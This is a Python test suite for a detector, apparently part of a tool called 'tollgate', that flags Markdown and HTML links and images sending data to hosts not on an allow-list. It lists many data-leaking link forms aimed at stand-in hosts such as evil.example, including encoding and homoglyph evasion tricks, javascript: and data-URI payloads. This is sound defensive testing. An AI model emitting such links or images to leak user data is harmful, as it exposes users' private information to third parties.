"""No way of writing a link or an image gets data to a host that is not allowed."""

# ruff: noqa: RUF001

from __future__ import annotations

import itertools
import random
import re
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.unit.detectors.growth import growth, repeated
from tollgate.detectors import exfiltration
from tollgate.errors import BadRequest

ALLOWED = ["docs.example.com", "*.allowed.example"]
HOSTS = [
    *("evil.example", "e.co", "192.0.2.7", "2130706433", "[2001:db8::1]", "evil.example."),
    *("EVIL.example", "evil.example:8443", "xn--vil-8ma.example", "еvil.example"),
    *("docs.example.com.evil.example", "docs.example.com@evil.example", "docs-example.com"),
    *("docs.example.comm", "allowed.example", "docs.example.com!x.evil.example"),
    *("%65vil.example", "docs.example.com,me@evil.example", "ⓔvil.example"),
]
PAYLOADS = ["?q=c2VjcmV0IGRhdGE", "?d=Piano", "/c2VjcmV0/x.png", "?a=1&b=my%20secret", "/x?y", "/"]
FORMS = {
    "image": "![a]({})",
    "link": "[click]({})",
    "title": '![a]({} "t")',
    "angle": "![a](<{}>)",
    "nested": "[![a](https://docs.example.com/x.png)]({})",
    "nested image": "[a [b] ![c]({})](https://docs.example.com)",
    "reference": "![a][x]\n\n[x]: {}",
    "reference angle": "[a][x]\n\n[x]: <{}> 'title'",
    "reference quoted": "![x]\n\n> [x]:\n> {}",
    "reference next line": "[a]\n\n[a]:\n   {}",
    "line": "![a](\n{}\n)",
    "list": "- item\n  - ![a]({})",
    "table": "| a |\n|---|\n| ![a]({}) |",
    "img": '<img src="{}">',
    "img single": "<img src='{}' alt=x>",
    "img bare": "<img src={} >",
    "img slash": "<img/src={}>",
    "img blank": '<img src=" \t{}">',
    "img open": '<img src="{}',
    "srcset": '<img srcset="https://docs.example.com/a.png 1x, {} 2x">',
    "a": '<a href="{}">x</a>',
    "css": '<div style="background:url({})">',
    "css quoted": "<div style=\"background-image: url( '{}' )\">",
    "import": "<style>@import '{}';</style>",
    "iframe": '<iframe src="{}"></iframe>',
    "svg": '<svg><image xlink:href="{}"/></svg>',
    "refresh": '<meta http-equiv=refresh content="0;url={}">',
    "poster": "<video poster={}>",
    "stylesheet": "<link rel=stylesheet href={}>",
    "form": '<form action="{}">',
}
ALONE = {"autolink": "<{}>", "bare": "see {} for more"}
NAMED = {":": "&colon;", "/": "&sol;", ".": "&period;", "?": "&quest;", "=": "&equals;"}


def _writings(address: str, choose: random.Random) -> dict[str, str]:
    rest = address.removeprefix("https://")
    return {
        "plain": address,
        "case": "HtTpS://" + rest,
        "decimal": "".join(f"&#{ord(each)};" for each in address),
        "hexadecimal": "".join(f"&#x{ord(each):x};" for each in address),
        "no semicolon": "".join(f"&#{ord(each):07d}" for each in address),
        "named": "".join(NAMED.get(each, each) for each in address),
        "mixed": "".join(
            f"&#x{ord(each):X};" if choose.random() < 0.3 else each for each in address
        ),
        "ideographic dot": address.replace(".", "。"),
        "full-width dot": address.replace(".", "．"),
        "half-width dot": address.replace(".", "｡"),
        "escaped": "".join("\\" + each if each in ".:/-" else each for each in address),
        "backslashes": "https:\\\\" + rest,
        "one slash": "https:/" + rest,
        "no slash": "https:" + rest,
        "no scheme": "//" + rest,
        "zero width": address.replace("evil", "ev\u200bil"),
    }


ONLY_IN_FORMS = {"decimal", "hexadecimal", "no semicolon", "named", "mixed", "escaped",
                 "backslashes", "one slash", "no slash", "no scheme"}  # fmt: skip


def _variants() -> Iterator[tuple[str, str]]:
    choose = random.Random(2026)
    for form, host, payload in itertools.product(FORMS | ALONE, HOSTS, PAYLOADS):
        for name, written in _writings(f"https://{host}{payload}", choose).items():
            if form in FORMS or name not in ONLY_IN_FORMS:
                page = (FORMS | ALONE)[form].replace("{}", written)
                yield f"{form}, {name}, {host}{payload}", f"Hello.\n\n{page}\n\nBye."


def test_none_of_thousands_of_variants_escapes() -> None:
    variants = random.Random(1).sample(list(_variants()), 4_000)
    detector = exfiltration.open({"allowed_hosts": ALLOWED})
    escaped = [
        name
        for name, page in variants
        if max((match.confidence for match in detector.scan(page)), default=0) < 0.5
    ]
    assert escaped == []


@pytest.mark.parametrize(
    "text",
    [
        "[x](javascript:fetch('//evil.example'))",
        "<a href='java\nscript:alert(1)'>",
        "[x](data:text/html;base64,PHNjcmlwdD4=)",
        "<img src='data:image/svg+xml,<svg/onload=alert(1)>'>",
        '<img src="ht\ntps://evil.example/?q=1">',
        '<img src="\\\\evil.example\\x">',
        '<img src="/\\evil.example/x">',
        "background: url(\\68 ttps://evil.example/x)",
        "visit www.evil.example/x?d=secret",
        "visit evil.example/x?d=secret",
        "[x](slack://evil.example/x)",
        '<img src="https:&#x2f;/evil.example/?q=1">',
        "mail mailto:a@b.example?body=secret or [x](mailto:a@b.example?body=secret)",
        '{"html": "\\u003cimg src=\\"https:\\/\\/evil.example\\/?q=1\\"\\u003e"}',
    ],
)
def test_other_ways_out_are_found(text: str) -> None:
    found = exfiltration.open({"allowed_hosts": ALLOWED}).scan(text)
    assert max((match.confidence for match in found), default=0) >= 0.5


def _documents() -> Iterator[str]:
    """Pages as models write them, every address on an allowed host."""
    choose = random.Random(7)
    words = ("the", "cache", "holds", "each", "page", "until", "a", "writer", "changes", "it")
    hosts = ["docs.example.com", "a.allowed.example", "DOCS.example.com:443", "x.y.allowed.example"]
    for _ in range(500):
        parts = ["# " + " ".join(choose.sample(words, 4)).title()]
        for _ in range(choose.randint(3, 12)):
            text = " ".join(choose.choices(words, k=choose.randint(5, 60)))
            host = choose.choice(hosts)
            parts.append(
                choose.choice(
                    [
                        text,
                        f"{text} [guide](https://{host}/a-b_c/{choose.randrange(999)}?v=2#top).",
                        f"![chart](https://{host}/img/{choose.getrandbits(64):x}.png '{text[:9]}')",
                        f"| a | b |\n|---|---|\n| {text[:9]} | <https://{host}/x> |",
                        f"```python\nx = a['k'] // 2  # {text[:9]}\npath = 'C:\\\\temp\\\\x'\n```",
                        f"{text} (see [relative](../page.md#part), [mail](mailto:a@b.example))",
                        f'[{text[:8]}][ref]\n\n[ref]: https://{host}/x?y=1&amp;z=2 "title"',
                        f'<a href="https://{host}/?q=a&amp;b=c">x</a> <img src="/local.png">',
                        f"1. {text}\n2. ratio: 3://4, data: none, url(#id), e.g. file.txt?x\n",
                        f"Use `https://{host}/v1/{{id}}` or **https://{host}**, then {text}.",
                        "<p style=\"background:url('images/a.png')\">déjà vu — naïve</p>",
                    ]
                )
            )
        yield "\n\n".join(parts)


def test_five_hundred_documents_with_allowed_hosts_have_no_finding() -> None:
    detector = exfiltration.open({"allowed_hosts": ALLOWED})
    assert [page for page in _documents() if detector.scan(page)] == []


def test_this_projects_own_pages_have_no_finding() -> None:
    root = Path(__file__).resolve().parents[3]
    pages = [*root.glob("*.md"), *(root / "docs").rglob("*.md")]
    assert len(pages) > 10
    for page in pages:
        text = page.read_text(encoding="utf-8")
        hosts = {
            host.lower() for host in re.findall(r"(?:\w+://|www\.)([\w-]+(?:\.[\w-]+)*)", text)
        }
        if page.stem == "detectors-injection":
            continue  # shows attacks
        detector = exfiltration.open({"allowed_hosts": sorted(hosts | {"example.com"})})
        found = [text[m.start : m.end] for m in detector.scan(text) if m.confidence >= 0.5]
        assert found == [], page.name


def test_without_a_list_only_what_carries_data_is_reported() -> None:
    detector = exfiltration.open({})

    def best(text: str) -> float:
        return max((match.confidence for match in detector.scan(text)), default=0)

    assert best("![x](https://any.example/p.png?d=c2VjcmV0IGRhdGEgb2YgdGhlIHVzZXI)") >= 0.5
    assert best("![x](https://any.example/p.png?t=the%20user%20said%20my%20name)") >= 0.5
    assert best("![x](https://any.example/badge.svg?style=flat)") < 0.5
    assert best("[x](https://any.example/how-to-configure-the-cache-of-a-server)") < 0.5
    assert best("see https://any.example/x") == 0


def test_the_match_is_the_address() -> None:
    text = "é ![a](https://evil.example/x?q=1) [b](https://docs.example.com/)"
    (match,) = exfiltration.open({"allowed_hosts": ALLOWED}).scan(text)
    assert text[match.start : match.end] == "https://evil.example/x?q=1"
    assert match.kind == "exfiltration.image"


@pytest.mark.parametrize(
    "config",
    [{"hosts": []}, {"allowed_hosts": "a.example"}, {"allowed_hosts": [1]},
     {"allowed_hosts": ["https://a.example"]}, {"allowed_hosts": ["*"]}, {"allowed_hosts": [""]}],
)  # fmt: skip
def test_a_configuration_that_cannot_work_is_refused(config: dict[str, object]) -> None:
    with pytest.raises(BadRequest):
        exfiltration.open(config)


@pytest.mark.parametrize(
    "piece",
    ["url(", "src=", "](https:", "]: https://a.b/", "![a](https://e.co/?q=abc) ", "&#x41;",
     "<img srcset='https://a.b/x 1x, ", "a.b?", "\\", "https://"],
)  # fmt: skip
def test_time_grows_linearly_to_a_megabyte(piece: str) -> None:
    assert growth(exfiltration.open({"allowed_hosts": ALLOWED}), repeated(piece)) < 9
